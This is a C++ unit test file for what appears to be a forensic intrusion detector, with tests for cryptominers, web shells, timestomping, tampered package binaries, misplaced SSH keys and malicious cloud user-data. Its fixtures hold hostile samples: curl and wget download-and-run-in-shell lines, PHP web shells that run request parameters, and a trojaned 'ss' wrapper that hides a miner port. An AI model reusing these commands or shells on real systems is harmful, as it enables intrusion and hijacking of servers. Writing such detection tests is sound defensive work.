// C4, H4, H5, H9, H14, W1, W2, M1: user-data, miners, times, packages, recovered files, web shells, keys.
#include "scene_builder.h"

namespace icecore::detect::test {
namespace {

const std::string kMiner = "\177ELF" + std::string(4000, '\0') + "XMRig stratum+tcp://%s:%d cryptonight --donate-level=" + std::string(4000, '\0');
const std::string kConfig =
    "{\n \"pools\": [ {\n  \"url\": \"stratum+tcp://198.51.100.23:3333\",\n  \"user\": \"LdGh7sKq9ZyXwV2mN4pQr8tUvB3cD5eFgH\" } ]\n}\n";

struct Files : testing::Test {
  SceneBuilder scene;
};

TEST_F(Files, UserDataThatDownloadsAndRunsWithItsTraces) {
  const std::string data = "#!/bin/bash\ncurl -fsSL http://198.51.100.23/i.sh | bash\n";
  scene.instance.instance = "i-0123456789abcdef0";
  scene.instance.user_data = InstanceText{data, "instances/i-0123456789abcdef0/user-data"};
  scene.instance.console_output = {
      {"boot\n[   20.1] cloud-init[700]: [*] fetched http://198.51.100.23/i.sh\n", "instances/i-0123456789abcdef0/console-output.txt"}};
  scene.put("/var/lib/cloud/instances/i-0123456789abcdef0/user-data.txt", data, t(0), 0600);
  const auto found = of_rule(scene.run(), "user-data-download-run");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kCritical);
  EXPECT_EQ(found[0].time, t(0));
  EXPECT_EQ(found[0].locations[0].attribute, "user-data");
  EXPECT_EQ(found[0].locations[0].sha256, sha256_hex(data));
  EXPECT_EQ(found[0].locations[0].excerpt, "curl -fsSL http://198.51.100.23/i.sh | bash");
  EXPECT_TRUE(names_path(found[0], "/var/lib/cloud/instances/i-0123456789abcdef0/user-data.txt"));
  EXPECT_TRUE(
      std::ranges::any_of(found[0].locations, [](const Provenance& where) { return where.attribute == "console-output" && where.line == 2U; }));
}

TEST_F(Files, UserDataInAMultipartAndARuncmd) {
  scene.instance.user_data = InstanceText{
      "Content-Type: multipart/mixed; boundary=\"//\"\nMIME-Version: 1.0\n\n--//\nContent-Type: text/cloud-config\n\n#cloud-config\nruncmd:\n - [sh, "
      "-c, \"wget -qO- http://203.0.113.9/a | sh\"]\n--//--\n",
      "u"};
  EXPECT_EQ(of_rule(scene.run(), "user-data-download-run", Severity::kCritical).size(), 1U);
}

TEST_F(Files, OrdinaryUserDataIsSilentAndAnInstallerIsLow) {
  scene.instance.user_data = InstanceText{"#cloud-config\nruncmd:\n - [ systemctl, enable, --now, nginx ]\npackages: [curl, wget]\n", "u"};
  EXPECT_EQ(alarms(scene.run()), "");
  SceneBuilder other;
  other.instance.user_data = InstanceText{"#!/bin/sh\ncurl -fsSL https://get.docker.example/ | sh\n", "u"};
  EXPECT_EQ(alarms(other.run(), Severity::kMedium), "");
}

TEST_F(Files, AMinerWithItsConfigurationIsOneFinding) {
  const auto elf = scene.put("/usr/lib/.cache/helper", kMiner, t(0), 0755);
  scene.put("/usr/lib/.cache/config.json", kConfig, t(1));
  const auto found = of_rule(scene.run(), "cryptominer");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kCritical);
  EXPECT_EQ(found[0].locations[0].inode, elf);
  EXPECT_EQ(found[0].locations[0].sha256, sha256_hex(kMiner));
  EXPECT_NE(found[0].locations[1].excerpt.find("stratum+tcp://198.51.100.23:3333"), std::string::npos);
  EXPECT_NE(found[0].sentence.find("LdGh7sKq9ZyXwV2mN4pQr8tUvB3cD5eFgH"), std::string::npos);
}

TEST_F(Files, MinersElsewhereAndConfigurationsAlone) {
  scene.put("/opt/app/worker", kMiner, t(0), 0755);
  scene.put("/dev/shm/.c/pools.txt", kConfig, t(0));
  EXPECT_EQ(of_rule(scene.run(), "cryptominer").size(), 2U);
}

TEST_F(Files, PackagedMinersScannersAndScriptsAreNot) {
  scene.package("xmrig", {{"/usr/bin/xmrig", kMiner, 0755}});
  scene.put("/usr/local/bin/backup", "\177ELF" + std::string(5000, 'b'), t(0), 0755);
  scene.put("/home/admin/notes.txt", "mining pools use stratum+tcp://", t(0), 0644, 1000);
  EXPECT_EQ(alarms(scene.run()), "");
}

TEST_F(Files, OnlyTheEndsOfAHugeProgramAreRead) {
  scene.put("/usr/lib/.x/big", "\177ELF" + std::string(20 << 20, 'n'), t(0), 0755);
  (void)scene.run();
  EXPECT_LT(scene.root->bytes_read, std::size_t{9} << 20) << "two detectors read two MiB each";
}

TEST_F(Files, StringsInTheMiddleOfALargeProgramAreFound) {
  // Six MiB of code before the read-only data and six of data after it, linked by the real linker: the pool's name is far from both ends.
  const icecore::test::ScratchFolder scratch;
  const std::string source =
      "#include <stdio.h>\n__asm__(\".text\\n.fill 6000000,1,0x90\\n\");\nchar pad[6000000] = {1};\n"
      "int main(void) { puts(\"stratum+tcp://%s:%d\"); puts(\"cryptonight\"); return pad[5]; }\n";
  const std::string program = (scratch / "big").string();
  icecore::test::run_ok(fmt::format("cat > {0}.c <<'END'\n{1}END\ngcc -o {0} {0}.c", program, source));
  const std::string bytes = icecore::test::run_ok("cat " + program);
  ASSERT_GT(bytes.size(), std::size_t{10'000'000});
  const std::size_t at = bytes.find("stratum+tcp://");
  ASSERT_GT(at, std::size_t{1} << 20);
  ASSERT_LT(at, bytes.size() - (std::size_t{1} << 20));
  scene.put("/usr/lib/.x/big", bytes, t(0), 0755);
  EXPECT_EQ(of_rule(scene.run(), "cryptominer").size(), 1U);
}

TEST_F(Files, ADataVolumeGivenAloneHasItsWebRootsToo) {
  scene.root = std::make_shared<MemoryFilesystem>("shop-data");
  scene.data_only = true;
  scene.put("/www/shop/uploads/.thumb.php", "<?php system($_GET['c']); ?>", t(0), 0644, 33);
  EXPECT_EQ(of_rule(scene.run(), "web-shell", Severity::kCritical).size(), 1U);
}

TEST_F(Files, ATimeThatWasSetBack) {
  Times times = Times::at(t(0));
  times.modified = {1365292800, 0};
  times.changed = t(60);
  scene.root->file("/usr/lib/.cache/helper", "x", times, 0755);
  const auto found = of_rule(scene.run(), "timestomp");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].time, t(0));
  EXPECT_NE(found[0].sentence.find("2013-04-07"), std::string::npos) << found[0].sentence;
}

TEST_F(Files, ArchivesDeploymentsPackagesAndTheImageKeepOldTimesToo) {
  Times old = Times::at(t(0));
  old.modified = {1500000000, 0};
  for (int i = 0; i < 30; ++i) scene.root->file(fmt::format("/usr/share/vendor/lib{}.rb", i), "x", old);
  scene.root->file("/usr/local/bin/tool", "\177ELF", old, 0755);
  scene.root->file("/srv/www/index.php", "<?php ?>", old);
  Times image = Times::at(kImaged);
  image.modified = {1500000000, 0};
  scene.root->file("/usr/lib/firmware.bin", "x", image);
  scene.package("late", {{"/usr/bin/late", "\177ELF late", 0755}}, t(-kDay));
  EXPECT_EQ(alarms(scene.run()), "");
}

TEST_F(Files, APackagedProgramReplacedUnderItsOldTime) {
  scene.package("iproute2", {{"/usr/bin/ss", "\177ELF ss", 0755}, {"/usr/bin/ip", "\177ELF ip", 0755}});
  Times kept = Times::at(t(0));
  kept.modified = {kImaged.seconds - 200 * kDay, 0};
  const std::string script = "#!/bin/sh\n/usr/lib/.x/ss \"$@\" | grep -v 3333\n";
  scene.root->file("/usr/bin/ss", script, kept, 0755);
  scene.root->file("/usr/bin/ip", "\177ELF ip", kept, 0755);  // touched, not changed
  const auto found = of_rule(scene.run(), "package-file-replaced");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].locations[0].path, "/usr/bin/ss");
  EXPECT_EQ(found[0].locations[0].sha256, sha256_hex(script));
  EXPECT_EQ(found[0].time, t(0));
}

TEST_F(Files, ConffilesAndLaterUpdatesAreNot) {
  scene.package("openssh-server", {{"/etc/ssh/sshd_config", "Port 22\n"}}, kImaged, {"/etc/ssh/sshd_config"});
  scene.put("/etc/ssh/sshd_config", "Port 22\nMaxAuthTries 6\n", t(0));
  scene.package("openssl", {{"/usr/bin/openssl", "\177ELF new openssl", 0755}}, t(-kDay));
  EXPECT_EQ(alarms(scene.run()), "");
}

TEST_F(Files, AWebShellAmongTheUploadsWithItsPosts) {
  scene.put("/etc/nginx/sites-enabled/shop", "server { root /srv/shop/www; }\n", kBooted);
  scene.put("/srv/shop/www/uploads/.thumb.php", "GIF89a\n<?php if (isset($_POST['c'])) { echo shell_exec($_POST['c']); } ?>\n", t(0), 0644, 33);
  for (int i = 0; i < 9; ++i)
    scene.event("nginx:access_log:entry", t(60 + i),
                {{"method", "POST"}, {"path", "/uploads/.thumb.php?x"}, {"ip", "203.0.113.66"}, {"body", "203.0.113.66 POST"}},
                "/var/log/nginx/access.log.1.gz");
  scene.event("nginx:access_log:entry", t(70), {{"method", "POST"}, {"path", "/cart.php"}, {"ip", "198.18.0.1"}, {"body", "x"}},
              "/var/log/nginx/access.log");
  const auto found = of_rule(scene.run(), "web-shell");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kCritical);
  EXPECT_EQ(found[0].time, t(0));
  EXPECT_EQ(found[0].last, t(68));
  EXPECT_EQ(found[0].locations[0].line, 2U);
  EXPECT_TRUE(names_path(found[0], "/var/log/nginx/access.log.1.gz"));
  EXPECT_NE(found[0].sentence.find("9 POST requests"), std::string::npos) << found[0].sentence;
}

TEST_F(Files, PackedShellsAndOrdinaryApplications) {
  scene.put("/var/www/html/wp-content/uploads/2026/x.php", "<?php eval(gzinflate(base64_decode('abc'))); ?>", t(0), 0644, 33);
  scene.put("/var/www/html/index.php", "<?php require 'lib.php'; echo (int)$_GET['id']; ?>", t(0));
  scene.put("/var/www/html/upload.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/x'); ?>", t(0));
  scene.put("/var/www/html/db.php", "<?php $pdo->exec($_POST['unused']); curl_exec($h); ?>", t(0));
  scene.put("/var/www/html/uploads/index.php", "<?php // Silence is golden.", t(0));
  const auto found = of_rule(scene.run(), "web-shell");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_TRUE(names_path(found[0], "/var/www/html/wp-content/uploads/2026/x.php"));
}

constexpr const char* kKey =
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE "
    "KEY-----\n";

TEST_F(Files, APrivateKeyUnderTheWebRootAndWhereTheAccountWent) {
  const auto key = scene.put("/var/www/shop/uploads/.cache/backup_ed25519", kKey, t(0), 0600, 33);
  scene.put("/var/www/.ssh/known_hosts",
            "10.0.3.21 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG2zWdN5oMcnWmaHYL2E2mEb2RYwDhlc2ZyvSMgCrUzq\n10.0.3.22 ssh-ed25519 "
            "AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ\n",
            t(60), 0600, 33);
  const auto found = of_rule(scene.run(), "stolen-private-key");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kHigh);
  EXPECT_EQ(found[0].locations[0].inode, key);
  EXPECT_EQ(found[0].locations[0].excerpt, "-----BEGIN OPENSSH PRIVATE KEY-----") << "the key itself stays out of reports";
  EXPECT_NE(found[0].sentence.find("10.0.3.22"), std::string::npos);
  EXPECT_EQ(found[0].first, t(0));
  EXPECT_EQ(found[0].last, t(60));
}

TEST_F(Files, KeysWhereTheyBelong) {
  scene.put("/home/admin/.ssh/id_ed25519", kKey, t(0), 0600, 1000);
  scene.put("/etc/ssh/ssh_host_ed25519_key", kKey, kBooted, 0600);
  scene.put("/etc/ssl/private/site.key", kKey, t(0), 0600);
  scene.put("/srv/deploy/keys/backup_ed25519", kKey, t(0), 0600, 1000);
  scene.put("/home/admin/.ssh/known_hosts", "10.0.3.21 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG2zWdN5oMcnWmaHYL2E2mEb2RYwDhlc2ZyvSMgCrUzq\n", t(0),
            0600, 1000);
  EXPECT_EQ(alarms(scene.run()), "");
}

TEST_F(Files, AMinersLogAndTheConsole) {
  scene.put("/usr/lib/.cache/helper", kMiner, t(-7200), 0755);
  Times times = Times::at(t(-7200));
  times.modified = times.changed = t(0);
  scene.root->file("/usr/lib/.cache/stats.log",
                   "[2026-09-21 12:00:00] accepted: 1/1 (100%), 18.50 kH/s yes!\n[2026-09-21 12:02:00] accepted: 2/2 (100%), 18.1 kH/s "
                   "yes!\n[2026-09-21 12:04:00] rejected: 2/3 share above target, 2.2 kH/s\n",
                   times);
  scene.instance.instance = "i-1";
  scene.instance.console_output = {{"[ 5520.000000] 2026-09-21T12:00:00Z ec2-credit-monitor[402]: CPU credits exhausted (CPUCreditBalance=0.0)\n",
                                    "instances/i-1/console-output.txt"}};
  const auto found = of_rule(scene.run(), "miner-log", Severity::kHigh);
  ASSERT_EQ(found.size(), 2U);
  const Finding& log = names_path(found[0], "/usr/lib/.cache/stats.log") ? found[0] : found[1];
  const Finding& console = &log == &found[0] ? found[1] : found[0];
  EXPECT_EQ(log.time, t(0));
  EXPECT_NE(alarms({log}).find("rejected"), std::string::npos);
  EXPECT_EQ(console.locations[0].attribute, "console-output");
  EXPECT_EQ(console.locations[0].case_file, "instances/i-1/console-output.txt");
}

TEST_F(Files, ExhaustedCreditsWithoutAMinerAreANote) {
  scene.instance.console_output = {{"[ 5520.000000] CPU credits exhausted\n", "c"}};
  EXPECT_EQ(alarms(scene.run()), "");
}

TEST_F(Files, RecoveredFilesThatTellSomething) {
  const auto add = [&](const std::string& path, const std::string& content) {
    RecoveredFile file;
    file.path = path;
    file.content = content;
    file.info.inode = 4242;
    file.info.deleted = t(0);
    scene.recovered.push_back(file);
  };
  scene.put("/var/log/auth.log.2.gz", "x", t(-kDay));
  add("/var/tmp/.x/install.sh", "#!/bin/bash\ncurl -fsSL http://198.51.100.23/m.tgz -o .m.tgz && tar xzf .m.tgz\n");
  add("/var/log/auth.log.1", "2026-11-01T00:00:00+00:00 web sshd[1]: x\n");
  add("/var/log/syslog.7.gz", "rotation removes the oldest");
  add("/tmp/apt-dpkg-install-x/a.txt", "hello");
  const auto found = of_rule(scene.run(), "deleted-recovered");
  ASSERT_EQ(found.size(), 2U);
  EXPECT_EQ(found[0].locations[0].inode, 4242U);
  EXPECT_EQ(found[0].time, t(0));
  EXPECT_FALSE(found[0].locations[0].sha256.empty());
}

}  // namespace
}  // namespace icecore::detect::test
